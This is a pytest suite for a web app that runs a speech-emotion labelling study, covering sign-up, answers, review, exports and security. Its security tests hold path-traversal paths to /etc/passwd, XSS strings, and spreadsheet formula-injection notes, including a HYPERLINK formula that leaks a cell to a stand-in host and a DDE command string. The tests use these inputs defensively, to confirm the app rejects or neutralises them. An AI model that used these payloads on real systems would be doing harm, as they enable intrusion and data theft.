"""The study app over real HTTP (uvicorn on a loopback port): participants, answers, review, exports, security."""

from __future__ import annotations

import csv
import hashlib
import hmac
import http.client
import time
import io
import json
import sqlite3
import subprocess
from collections import Counter

import httpx
import pandas as pd
import pytest

from conftest import run, run_env
from melt.study.params import StudyParams
from study_helpers import LiveApp, build_study


@pytest.fixture
def live(tmp_path):
    build_study(tmp_path, StudyParams(per_label=3, attention_items=3))
    app = LiveApp(tmp_path, questions=5, attention=1)
    yield app
    app.stop()


@pytest.fixture
def client(live):
    with httpx.Client(base_url=live.url, timeout=30) as c:
        yield c


def _keyed(live, frame: pd.DataFrame) -> pd.DataFrame:
    """`frame` with the public id of each row, computed here by hand: HMAC-SHA256 keyed by the database's secret."""
    secret = bytes.fromhex(live.store.secret)
    return frame.assign(item_id=[hmac.new(secret, f"item\0{s}/{d}/{u}".encode(), hashlib.sha256).hexdigest()[:16]
                                 for s, d, u in zip(frame["split"], frame["dialogue_id"], frame["utterance_id"])])


def _items(live) -> pd.DataFrame:
    return _keyed(live, pd.read_csv(live.root / "data" / "study" / "items.csv", dtype=str, keep_default_na=False))


def _queue(live) -> pd.DataFrame:
    return _keyed(live, pd.read_csv(live.root / "data" / "study" / "review_queue.csv", dtype=str,
                                    keep_default_na=False))


def _join(client, **demographics):
    r = client.post("/api/participants", json={"consent": True, **demographics})
    assert r.status_code == 201, r.text
    return r.json()


PLAYED = 0.3   # the test tones last 0.3 s: a full play


def _auth(token):
    return {"Authorization": f"Bearer {token}"}


def _rows(live, table):
    with sqlite3.connect(live.store.path) as con:
        return con.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]


def _reviewer(live, name="alice"):
    return live.store.add_reviewer(name)


def test_participant_gets_questions_with_both_labels_and_playable_media(live, client):
    joined = _join(client, gender="female", headphones="yes")
    items = _items(live).set_index("item_id")
    questions = joined["questions"]
    assert len(questions) == 6 and [q["position"] for q in questions] == list(range(1, 7))
    kinds = Counter(items.loc[q["question_id"], "kind"] for q in questions)
    assert kinds == {"preference": 5, "attention": 1}
    for q in questions:
        item = items.loc[q["question_id"]]
        assert sorted(q["options"]) == sorted([item["option_1"], item["option_2"]])
        assert q["text"] == item["Utterance"] and q["answered"] is None
        assert set(q) == {"question_id", "position", "media_url", "media_type", "text", "options", "answered"}
        media = client.get(q["media_url"])
        assert media.status_code == 200 and media.headers["content-type"] == "audio/wav"
        assert media.content == (live.root / item["audio_path"]).read_bytes()
    with sqlite3.connect(live.store.path) as con:
        assert con.execute("SELECT gender, headphones, age_range FROM participants").fetchall() == [
            ("female", "yes", None)]


def test_an_answer_counts_once_and_the_participant_resumes_where_they_stopped(live, client):
    joined = _join(client)
    pid, token, questions = joined["participant_id"], joined["token"], joined["questions"]
    first, second = questions[0], questions[1]
    r = client.post("/api/answers", headers=_auth(token),
                    json={"participant_id": pid, "question_id": first["question_id"], "choice": first["options"][1],
                          "media_played_s": PLAYED})
    assert r.status_code == 201 and r.json() == {"status": "recorded", "recorded": True,
                                                 "choice": first["options"][1], "remaining": 5}
    for choice in first["options"]:   # a repeat, even with the other option, changes nothing and says so
        again = client.post("/api/answers", headers=_auth(token),
                            json={"participant_id": pid, "question_id": first["question_id"], "choice": choice})
        assert again.status_code == 200
        assert again.json()["status"] == "already_answered" and again.json()["choice"] == first["options"][1]
    with sqlite3.connect(live.store.path) as con:
        assert con.execute("SELECT participant_id, item_id, choice, media_played_s FROM answers").fetchall() == [
            (pid, first["question_id"], first["options"][1], 0.3)]
    me = client.get("/api/participants/me", headers=_auth(token)).json()
    assert [q["answered"] for q in me["questions"]] == [first["options"][1]] + [None] * 5
    assert (me["answered"], me["remaining"], me["completed"]) == (1, 5, False)
    assert me["questions"][1]["question_id"] == second["question_id"]


def test_finishing_marks_the_participant_complete(live, client):
    joined = _join(client)
    for q in joined["questions"]:
        client.post("/api/answers", headers=_auth(joined["token"]),
                    json={"participant_id": joined["participant_id"], "question_id": q["question_id"],
                          "choice": q["options"][0], "media_played_s": PLAYED})
    me = client.get("/api/participants/me", headers=_auth(joined["token"])).json()
    assert me["completed"] and me["remaining"] == 0
    with sqlite3.connect(live.store.path) as con:
        assert con.execute("SELECT completed_at IS NOT NULL FROM participants").fetchone() == (1,)


def test_items_are_spread_evenly_over_participants(live, client):
    pool = len(live.catalog.preference)   # 21 items, 5 per participant
    for _ in range(8):
        _join(client)
    with sqlite3.connect(live.store.path) as con:
        counts = dict(con.execute("SELECT item_id, COUNT(*) FROM questions WHERE kind = 'preference' GROUP BY item_id"))
    per_item = [counts.get(i.item_id, 0) for i in live.catalog.preference]
    assert sum(per_item) == 40 and len(per_item) == pool
    assert max(per_item) - min(per_item) <= 1


# --- security -------------------------------------------------------------------------------------------------

def test_answers_need_the_participants_own_token(live, client):
    a, b = _join(client), _join(client)
    q = a["questions"][0]
    body = {"participant_id": a["participant_id"], "question_id": q["question_id"], "choice": q["options"][0]}
    assert client.post("/api/answers", json=body).status_code == 401
    assert client.post("/api/answers", json=body, headers={"Authorization": "Basic abc"}).status_code == 401
    assert client.post("/api/answers", json=body, headers=_auth("not-a-token")).status_code == 401
    r = client.post("/api/answers", json=body, headers=_auth(b["token"]))   # B's token, A's participant id
    assert r.status_code == 403 and "another participant" in r.json()["detail"]
    # B's token on B's own id but A's question (least-assigned items first: B was given other items).
    assert q["question_id"] not in {x["question_id"] for x in b["questions"]}
    r = client.post("/api/answers", headers=_auth(b["token"]), json={**body, "participant_id": b["participant_id"]})
    assert r.status_code == 404
    assert client.get("/api/participants/me").status_code == 401
    assert _rows(live, "answers") == 0


def test_a_choice_that_is_not_an_option_is_refused(live, client):
    joined = _join(client)
    q = joined["questions"][0]
    others = {"anger", "joy", "sadness", "fear", "surprise", "disgust", "neutral"} - set(q["options"])
    r = client.post("/api/answers", headers=_auth(joined["token"]),
                    json={"participant_id": joined["participant_id"], "question_id": q["question_id"],
                          "choice": sorted(others)[0]})
    assert r.status_code == 422 and _rows(live, "answers") == 0


@pytest.mark.parametrize("body", [
    b"{not json",
    b'{"consent": true, "gender": "female", "admin": true}',      # unknown field
    b'{"consent": "yes"}',                                        # wrong type
    b'{"consent": false}',                                        # no consent, no participant
    b'{"consent": true, "gender": "<script>alert(1)</script>"}',  # not one of the choices
    b"[]",
])
def test_malformed_participant_bodies_are_refused_and_nothing_is_written(live, client, body):
    r = client.post("/api/participants", content=body, headers={"Content-Type": "application/json"})
    assert r.status_code == 422, r.text
    assert _rows(live, "participants") == 0 and _rows(live, "questions") == 0


def test_oversized_bodies_are_refused_before_parsing(live, client):
    joined = _join(client)
    q = joined["questions"][0]
    big = {"participant_id": joined["participant_id"], "question_id": q["question_id"], "choice": "x" * 20_000}
    r = client.post("/api/answers", json=big, headers=_auth(joined["token"]))
    assert r.status_code == 413

    def chunks():   # no Content-Length: the body is counted as it arrives
        yield b'{"consent": true, "gender": "'
        for _ in range(40):
            yield b"a" * 1024
        yield b'"}'

    r = client.post("/api/participants", content=chunks(), headers={"Content-Type": "application/json"})
    assert r.status_code == 413
    assert _rows(live, "answers") == 0 and _rows(live, "participants") == 1


def _raw_get(live, path: str) -> int:
    """GET with the path sent byte for byte (clients normalise `..`)."""
    host, port = live.url.removeprefix("http://").split(":")
    con = http.client.HTTPConnection(host, int(port), timeout=10)
    con.putrequest("GET", path, skip_accept_encoding=True)
    con.endheaders()
    status = con.getresponse().status
    con.close()
    return status


@pytest.mark.parametrize("path", [
    "/media/../../../../etc/passwd",
    "/media/..%2F..%2F..%2Fetc%2Fpasswd/audio",
    "/media/%2e%2e%2f%2e%2e%2fpyproject.toml/audio",
    "/static/../app.py",
    "/static/..%2fapp.py",
    "/static/%2e%2e/%2e%2e/params.py",
    "/media/0123456789abcdef/../../etc/passwd",
])
def test_media_routes_serve_nothing_outside_the_study_set(live, path):
    assert _raw_get(live, path) == 404


def test_media_kind_and_id_must_match_the_study_set(live, client):
    item = live.catalog.preference[0]
    staff = _auth(_reviewer(live))
    assert client.get(f"/media/{item.item_id}/audio", headers=staff).status_code == 200
    assert client.get(f"/media/{item.item_id}/video", headers=staff).status_code == 404    # no video for this item
    assert client.get(f"/media/{item.item_id}/passwd", headers=staff).status_code == 404
    assert client.get(f"/media/{item.item_id.upper()}/audio", headers=staff).status_code == 404
    assert client.get("/media/0123456789abcdef/audio", headers=staff).status_code == 404   # well-formed, unknown


def test_pages_are_served_with_a_strict_content_security_policy(live, client):
    for path in ("/", "/study", "/review"):
        r = client.get(path)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")
        assert "script-src 'self'" in r.headers["content-security-policy"]
        assert r.headers["x-content-type-options"] == "nosniff"
        assert "<script>" not in r.text   # scripts only from /static
    assert "6 short clips" in client.get("/").text
    assert client.get("/static/study.js").status_code == 200


# --- review -----------------------------------------------------------------------------------------------------

def test_review_queue_needs_a_reviewer_token(live, client):
    participant = _join(client)
    assert client.get("/api/review/queue").status_code == 401
    assert client.get("/api/review/queue", headers=_auth(participant["token"])).status_code == 401
    assert client.get("/api/export", headers=_auth(participant["token"])).status_code == 401
    token = _reviewer(live)
    r = client.get("/api/review/queue", headers=_auth(token), params={"limit": 500})
    assert r.status_code == 200
    queue = _queue(live)
    data = r.json()
    assert data["total"] == len(queue) and [i["item_id"] for i in data["items"]] == list(queue["item_id"])
    first = data["items"][0]
    meld, llm = first["suggestions"]
    assert (meld["source"], meld["label"]) == ("meld", queue["meld_label"][0])
    assert (llm["source"], llm["label"], llm["score"]) == ("llm", queue["llm_label"][0], 1.0)
    assert llm["voice"] == {"loudness": "moderate", "pitch": "medium pitch", "rhythm_speed": "moderate",
                            "emotional_impact": "calm"}
    assert first["panel"] is None and llm["agent"] == "MELT LLM"   # no panel.json: the single LLM, as before


def test_review_decisions_keep_their_source_reviewer_and_note(live, client):
    token = _reviewer(live, "alice")
    queue = client.get("/api/review/queue", headers=_auth(token)).json()["items"]
    a, b, c, d = queue[:4]
    note = '<script>alert("x")</script><img src=x onerror=alert(1)>'

    def decide(body):
        return client.post("/api/review/decisions", headers=_auth(token), json=body)

    r = decide({"item_id": a["item_id"], "source": "llm"})
    assert r.status_code == 201 and (r.json()["final_label"], r.json()["label_source"]) == (
        a["suggestions"][1]["label"], "llm")
    assert decide({"item_id": b["item_id"], "source": "meld", "note": note}).json()["note"] == note
    free = decide({"item_id": c["item_id"], "source": "reviewer", "label": " Frustration "}).json()
    assert (free["final_label"], free["label_source"], free["reviewer"]) == ("frustration", "reviewer", "alice")
    same_as_meld = decide({"item_id": d["item_id"], "source": "reviewer", "label": d["suggestions"][0]["label"]})
    assert same_as_meld.json()["label_source"] == "meld"
    before = _rows(live, "decisions")
    for bad in ({"item_id": a["item_id"], "source": "reviewer", "label": "<b>joy</b>"},
                {"item_id": a["item_id"], "source": "reviewer"},
                {"item_id": a["item_id"], "source": "llm", "label": "joy"},
                {"item_id": a["item_id"], "source": "crowd"},
                {"item_id": a["item_id"], "source": "llm", "note": "n" * 2001}):
        assert decide(bad).status_code == 422, bad
    assert decide({"item_id": "0123456789abcdef", "source": "llm"}).status_code == 404
    assert _rows(live, "decisions") == before == 4
    shown = client.get("/api/review/queue", headers=_auth(token), params={"status": "decided"}).json()
    assert shown["decided"] == 4 and {i["item_id"] for i in shown["items"]} == {x["item_id"] for x in (a, b, c, d)}
    assert next(i for i in shown["items"] if i["item_id"] == b["item_id"])["decision"]["note"] == note
    assert client.get("/api/review/queue", headers=_auth(token),
                      params={"status": "open"}).json()["matching"] == shown["total"] - 4


# --- exports ----------------------------------------------------------------------------------------------------

def _answer_all(client, joined, pick=0):
    for q in joined["questions"]:
        r = client.post("/api/answers", headers=_auth(joined["token"]),
                        json={"participant_id": joined["participant_id"], "question_id": q["question_id"],
                              "choice": q["options"][pick], "media_played_s": PLAYED})
        assert r.status_code == 201, r.text


def test_exports_match_the_database_and_hold_no_token(live, client):
    people = [_join(client, gender="male"), _join(client)]
    _answer_all(client, people[0], 0)
    _answer_all(client, people[1], 1)
    staff = _reviewer(live)
    queue = client.get("/api/review/queue", headers=_auth(staff)).json()["items"]
    client.post("/api/review/decisions", headers=_auth(staff), json={"item_id": queue[0]["item_id"], "source": "meld"})
    with sqlite3.connect(live.store.path) as con:
        db = set(con.execute("SELECT participant_id, item_id, choice FROM answers"))
    assert len(db) == 12

    data = client.get("/api/export", headers=_auth(staff)).json()
    assert {(a["participant_id"], a["item_id"], a["choice"]) for a in data["answers"]} == db
    assert {p["participant_id"]: p["gender"] for p in data["participants"]} == {
        people[0]["participant_id"]: "male", people[1]["participant_id"]: None}

    r = client.get("/api/export", headers=_auth(staff), params={"format": "csv"})
    assert r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert {(x["participant_id"], x["item_id"], x["choice"]) for x in rows} == db

    argilla = client.get("/api/export", headers=_auth(staff), params={"format": "argilla"}).json()
    got = {(resp["user_id"], rec["id"], resp["value"]) for rec in argilla["records"]
           for resp in rec["responses"]["emotion"]}
    assert got == db and argilla["settings"]["questions"][0]["name"] == "emotion"

    studio = client.get("/api/export", headers=_auth(staff), params={"format": "label-studio"}).json()
    got = {(ann["completed_by"], task["data"]["item_id"], ann["result"][0]["value"]["choices"][0])
           for task in studio for ann in task["annotations"]}
    assert got == db

    decisions = client.get("/api/review/export", headers=_auth(staff), params={"format": "label-studio"}).json()
    assert decisions[0]["data"]["item_id"] == queue[0]["item_id"]
    assert decisions[0]["annotations"][0]["result"][0]["value"]["choices"] == [queue[0]["suggestions"][0]["label"]]

    everything = "".join(client.get(path, headers=_auth(staff), params={"format": f}).text
                         for path in ("/api/export", "/api/review/export")
                         for f in ("json", "csv", "argilla", "label-studio"))
    for secret in (staff, people[0]["token"], people[1]["token"]):
        assert secret not in everything
        assert hashlib.sha256(secret.encode()).hexdigest() not in everything


def test_cli_adds_reviewers_and_exports_what_the_api_exports(live, client, tmp_path):
    joined = _join(client)
    _answer_all(client, joined, 1)
    db = str(live.store.path)
    token = run(["melt-study", "--db", db, "reviewer", "add", "carol"], tmp_path).stdout.strip()
    assert client.get("/api/review/me", headers=_auth(token)).json() == {"reviewer": "carol"}
    new = run(["melt-study", "--db", db, "reviewer", "add", "carol"], tmp_path).stdout.strip()
    assert client.get("/api/review/me", headers=_auth(token)).status_code == 401   # replaced, old one revoked
    for fmt in ("csv", "argilla", "label-studio", "json"):
        run(["melt-study", "--db", db, "export", "answers", "--format", fmt, "-o", str(tmp_path / f"a.{fmt}")],
            tmp_path)
        via_api = client.get("/api/export", headers=_auth(new), params={"format": fmt})
        written = (tmp_path / f"a.{fmt}").read_text()
        assert (written == via_api.text) if fmt == "csv" else (json.loads(written) == via_api.json())
    bad = subprocess.run(["melt-study", "--db", db, "reviewer", "add", "<bob>"], cwd=tmp_path, capture_output=True,
                         text=True, env=run_env())
    assert bad.returncode != 0 and "reviewer name" in bad.stderr


# --- issue 18: keyed ids, guarded media, sign-up limits, balance, play time, CSV guard, context ------------------

def test_an_item_id_cannot_be_guessed_from_its_key(live, client, tmp_path):
    """The ids are HMACs keyed by a secret of the database: the unsalted hash of the key (the old id), or the same
    construction under another database's secret, matches no question, and a guessed id serves nothing."""
    from melt.study.catalog import load_catalog
    from melt.study.store import StudyStore

    joined = _join(client)
    items = _items(live).set_index("item_id")
    assert {q["question_id"] for q in joined["questions"]} <= set(items.index)   # the hand-made HMAC, exactly
    other = StudyStore(tmp_path / "other.db")
    assert other.secret != live.store.secret and len(live.store.secret) == 64
    elsewhere = {i.item_id for i in load_catalog(live.root / "data" / "study", live.root, other.secret).preference}
    staff = _auth(_reviewer(live))
    for q in joined["questions"]:
        row = items.loc[q["question_id"]]
        key = f"{row['split']}/{row['dialogue_id']}/{row['utterance_id']}"
        unsalted = hashlib.sha256(key.encode()).hexdigest()[:16]
        assert unsalted not in items.index and q["question_id"] not in elsewhere
        assert client.get(f"/media/{unsalted}/audio", headers=staff).status_code == 404
    assert key not in (live.root / "data" / "study" / "items.csv").read_text().split(",")   # no id in the DVC output
    assert "item_id" not in (live.root / "data" / "study" / "items.csv").read_text().splitlines()[0]


def test_media_need_a_token_or_an_unexpired_signed_url(live, client):
    from melt.study.keys import media_signature

    a, b = _join(client), _join(client)
    mine = a["questions"][0]
    item = mine["question_id"]
    path = f"/media/{item}/audio"
    assert client.get(path).status_code == 401                                             # no token, no signature
    assert client.get(path, headers=_auth("not-a-token")).status_code == 401
    assert client.get(path, headers=_auth(a["token"])).status_code == 200                  # own question
    assert item not in {q["question_id"] for q in b["questions"]}
    assert client.get(path, headers=_auth(b["token"])).status_code == 403                  # someone else's
    assert client.get(path, headers=_auth(_reviewer(live))).status_code == 200
    signed = client.get(mine["media_url"], headers={"Range": "bytes=0-99"})                # what the page plays
    assert signed.status_code == 206 and len(signed.content) == 100
    secret = live.store.secret
    past = int(time.time()) - 1
    expired = f"{path}?expires={past}&sig={media_signature(secret, item, 'audio', past)}"
    assert client.get(expired).status_code == 403
    later = int(time.time()) + 600
    good_sig = media_signature(secret, item, "audio", later)
    assert client.get(f"{path}?expires={later}&sig={good_sig}").status_code == 200
    forged = [f"{path}?expires={later + 1}&sig={good_sig}",                                # extended expiry
              f"/media/{b['questions'][0]['question_id']}/audio?expires={later}&sig={good_sig}",   # other item
              f"{path}?expires={later}&sig={'0' * 64}", f"{path}?expires={later}", f"{path}?sig={good_sig}"]
    for url in forged:
        assert client.get(url).status_code == 403, url


def test_a_full_study_refuses_the_next_participant(tmp_path):
    build_study(tmp_path, StudyParams(per_label=3, attention_items=3))
    app = LiveApp(tmp_path, questions=5, attention=1, max_participants=2)
    try:
        with httpx.Client(base_url=app.url, timeout=30) as c:
            _join(c), _join(c)
            r = c.post("/api/participants", json={"consent": True})
            assert r.status_code == 403 and "the study is full" in r.json()["detail"]
        assert _rows(app, "participants") == 2 and _rows(app, "questions") == 12
    finally:
        app.stop()


def test_sign_ups_are_rate_limited_per_client_address(tmp_path):
    build_study(tmp_path, StudyParams(per_label=3, attention_items=3))
    app = LiveApp(tmp_path, questions=5, attention=1, participants_per_minute=2)
    try:
        with httpx.Client(base_url=app.url, timeout=30) as c:
            here, there = {"X-Forwarded-For": "203.0.113.7"}, {"X-Forwarded-For": "198.51.100.9"}
            statuses = [c.post("/api/participants", json={"consent": True}, headers=here).status_code
                        for _ in range(3)]
            assert statuses == [201, 201, 429]
            limited = c.post("/api/participants", json={"consent": True}, headers=here)
            assert limited.status_code == 429 and limited.headers["retry-after"] == "30"
            assert c.post("/api/participants", json={"consent": True}, headers=there).status_code == 201
        assert _rows(app, "participants") == 3
    finally:
        app.stop()


def test_items_are_balanced_on_answers_and_abandoned_questions_return(live, client):
    """Load per item = answers given + open questions of participants active within the timeout. A participant
    idle for longer than `assignment_timeout_min` gives their unanswered items back."""
    store, pref, att = live.store, live.catalog.preference, live.catalog.attention
    first, _ = store.create_participant({}, pref, att, 5, 0)
    held = {q["item_id"] for q in store.questions(first)}
    answered = sorted(held)[:2]
    for iid in answered:
        q = next(x for x in store.questions(first) if x["item_id"] == iid)
        store.record_answer(first, iid, q["option_a"], PLAYED)
    # Active: a second participant avoids all five of first's items (16 others are free).
    second, _ = store.create_participant({}, pref, att, 5, 0)
    assert not held & {q["item_id"] for q in store.questions(second)}
    # First and second go idle past the timeout: their open questions weigh nothing, their answers still count.
    with sqlite3.connect(store.path) as con:
        con.execute("UPDATE participants SET last_active_at = '2000-01-01T00:00:00.000Z'")
    load = {}
    with sqlite3.connect(store.path) as con:
        con.row_factory = sqlite3.Row
        load = store.item_load(con, "2020-01-01T00:00:00.000Z")
    assert {i: n for i, n in load.items() if n} == {i: 1 for i in answered}   # by hand: only the two answers count
    third, _ = store.create_participant({}, pref, att, 19, 0)
    got = {q["item_id"] for q in store.questions(third)}
    assert not set(answered) & got and len(got) == 19   # every item but the two answered ones is back in the pool


def _report(live, tmp_path):
    from melt.study.report import run as report

    report(live.store, StudyParams().labels, 0, tmp_path / "m.json", tmp_path / "reports")
    return json.loads((tmp_path / "reports" / "summary.json").read_text())


def test_an_answer_without_enough_play_time_is_refused_and_counted_by_the_report(live, client, tmp_path):
    joined = _join(client)
    q = next(x for x in joined["questions"] if x["question_id"] in {i.item_id for i in live.catalog.preference})
    body = {"participant_id": joined["participant_id"], "question_id": q["question_id"], "choice": q["options"][0]}
    for played in (0.1, None):   # 0.1 s of a 0.3 s clip (0.27 s needed), and no play time at all
        r = client.post("/api/answers", headers=_auth(joined["token"]),
                        json={**body, **({} if played is None else {"media_played_s": played})})
        assert r.status_code == 422 and "0.270 s are needed" in r.json()["detail"]
    assert _rows(live, "answers") == 0 and _rows(live, "play_refusals") == 2
    ok = client.post("/api/answers", headers=_auth(joined["token"]), json={**body, "media_played_s": 0.27})
    assert ok.status_code == 201
    summary = _report(live, tmp_path)
    assert summary["play_time"] == {"short_play_answers_flagged": 0, "preference_answers_left_out": 0,
                                    "short_play_answers_refused": 2, "participants_refused": 1}
    assert summary["overall"]["answers"] == 1


def test_with_play_check_flag_a_short_answer_is_kept_flagged_and_left_out(tmp_path):
    build_study(tmp_path, StudyParams(per_label=3, attention_items=3))
    app = LiveApp(tmp_path, questions=5, attention=0, play_check="flag")
    try:
        with httpx.Client(base_url=app.url, timeout=30) as c:
            joined = _join(c)
            for n, q in enumerate(joined["questions"]):
                r = c.post("/api/answers", headers=_auth(joined["token"]),
                           json={"participant_id": joined["participant_id"], "question_id": q["question_id"],
                                 "choice": q["options"][0], "media_played_s": 0.1 if n < 2 else PLAYED})
                assert r.status_code == 201
        with sqlite3.connect(app.store.path) as con:
            assert sorted(r[0] for r in con.execute("SELECT played_enough FROM answers")) == [0, 0, 1, 1, 1]
        summary = _report(app, tmp_path)
        assert summary["play_time"] == {"short_play_answers_flagged": 2, "preference_answers_left_out": 2,
                                        "short_play_answers_refused": 0, "participants_refused": 0}
        assert summary["overall"]["answers"] == 3
        people = pd.read_csv(tmp_path / "reports" / "participants.csv")
        assert people["short_play_flagged"].tolist() == [2]
    finally:
        app.stop()


def test_csv_exports_neutralise_spreadsheet_formulas(live, client):
    from melt.study.exports import neutralise

    token = _reviewer(live)
    queue = client.get("/api/review/queue", headers=_auth(token)).json()["items"]
    notes = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
             "\tTAB", "plain note", "a=b"]
    for item, note in zip(queue, notes):
        r = client.post("/api/review/decisions", headers=_auth(token),
                        json={"item_id": item["item_id"], "source": "llm", "note": note})
        assert r.status_code == 201
    rows = list(csv.DictReader(io.StringIO(client.get("/api/review/export", headers=_auth(token),
                                                      params={"format": "csv"}).text)))
    assert [r["note"] for r in rows] == ["'" + n for n in notes[:5]] + notes[5:]
    for r in rows:   # no cell of the CSV starts a formula
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values())
    json_notes = [d["note"] for d in client.get("/api/review/export", headers=_auth(token)).json()["decisions"]]
    assert json_notes == notes   # JSON keeps the text as written
    assert neutralise(-2.5) == -2.5 and neutralise("=1") == "'=1"   # numbers are not text


def test_review_queue_pages_by_rank_and_shows_playable_preceding_turns(live, client):
    token = _reviewer(live)
    queue = _queue(live)
    context = pd.read_csv(live.root / "data" / "study" / "context.csv", dtype=str, keep_default_na=False)
    first = client.get("/api/review/queue", headers=_auth(token), params={"status": "open", "limit": 4}).json()
    assert [i["item_id"] for i in first["items"]] == list(queue["item_id"][:4]) and first["more"] is True
    client.post("/api/review/decisions", headers=_auth(token), json={"item_id": first["items"][0]["item_id"],
                                                                     "source": "llm"})
    # A decision does not shift the next page: it starts after the last rank shown.
    after = first["items"][-1]["queue_rank"]
    second = client.get("/api/review/queue", headers=_auth(token),
                        params={"status": "open", "limit": 4, "after": after}).json()
    assert [i["item_id"] for i in second["items"]] == list(queue["item_id"][4:8])
    last = client.get("/api/review/queue", headers=_auth(token),
                      params={"status": "all", "limit": 500, "after": 4}).json()
    assert last["more"] is False and len(last["items"]) == len(queue) - 4
    with_turns = 0
    for item in last["items"]:
        row = queue.set_index("item_id").loc[item["item_id"]]
        turns = context[(context["split"] == row["split"]) & (context["dialogue_id"] == row["dialogue_id"])
                        & (context["utterance_id"] == row["utterance_id"])]
        assert [(t["turn"], t["speaker"], t["text"]) for t in item["context"]] == [
            (int(n), s, u) for n, s, u in zip(turns["turn"], turns["Speaker"], turns["Utterance"])]
        for t, path in zip(item["context"], turns["audio_path"]):
            media = client.get(t["media_url"])     # signed, like the utterance's own clip
            assert media.status_code == 200 and media.content == (live.root / path).read_bytes()
        with_turns += bool(item["context"])
    assert with_turns > 0


def test_a_panel_shows_each_annotators_label_and_input(tmp_path):
    from study_helpers import demo_rows, write_melt_dir

    rows = demo_rows(tmp_path, per_label=2, agree=1)
    for r in rows:
        r.update(panel_agreement="0.5", label_text_llm=r["llm_label"], label_audio_llm="neutral")
    write_melt_dir(tmp_path, rows, extra_columns=("panel_agreement", "label_text_llm", "label_audio_llm"))
    (tmp_path / "data" / "melt" / "panel.json").write_text(json.dumps({"aggregate": "dawid-skene", "annotators": {
        "text_llm": {"backend": "openai", "model": "gpt-4o", "input": "text", "prompt": "melt-v1"},
        "audio_llm": {"backend": "openai", "model": "qwen2-audio", "input": "text+audio", "prompt": "melt-av"}}}))
    from melt.study.items import build_study_set

    build_study_set(StudyParams(per_label=2, attention_items=1), tmp_path / "data" / "melt",
                    tmp_path / "data" / "study", tmp_path / "audio", tmp_path / "data" / "prepared")
    app = LiveApp(tmp_path)
    try:
        with httpx.Client(base_url=app.url, timeout=30) as c:
            item = c.get("/api/review/queue", headers=_auth(app.store.add_reviewer("ann"))).json()["items"][0]
        assert item["panel"] == {"aggregate": "dawid-skene", "agreement": 0.5, "annotators": [
            {"name": "text_llm", "label": item["suggestions"][1]["label"], "backend": "openai", "model": "gpt-4o",
             "input": "text", "prompt": "melt-v1"},
            {"name": "audio_llm", "label": "neutral", "backend": "openai", "model": "qwen2-audio",
             "input": "text+audio", "prompt": "melt-av"}]}
        assert item["suggestions"][1]["agent"] == "MELT panel"
    finally:
        app.stop()
